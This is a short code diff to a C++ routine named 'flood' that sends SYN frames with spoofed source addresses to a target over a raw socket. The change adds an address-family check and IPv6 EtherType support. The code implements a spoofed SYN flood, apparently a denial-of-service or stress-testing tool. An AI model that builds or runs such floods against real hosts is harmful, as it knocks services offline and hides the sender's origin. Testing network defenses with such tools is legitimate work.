@@ -87,14 +87,15 @@ class Burst {
 nlohmann::json flood(const Settings& settings) {
   const auto spoofed = Prefix::parse(settings.spoofed);
   const auto target = Endpoint::parse(settings.target);
-  if (!spoofed || !target) {
+  if (!spoofed || !target || spoofed->network.is_v4() != target->address.is_v4()) {
     errno = EINVAL;
     fail("--spoofed or --target");
   }
   const Descriptor socket = raw_socket(settings.device);
   SynFrames frames(*spoofed, *target);
   const wire::LinkHeader link =
-      wire::make_link_header(mac_of(settings.mac), {2, 0, 0, 0, 0, 1}, {}, wire::kEtherTypeIpv4);
+      wire::make_link_header(mac_of(settings.mac), {2, 0, 0, 0, 0, 1}, {},
+                             target->address.is_v4() ? wire::kEtherTypeIpv4 : wire::kEtherTypeIpv6);
   Burst burst(frames, link);
   const auto begin = Clock::now();
   const auto seconds = [&] { return std::chrono::duration<double>(Clock::now() - begin).count(); };
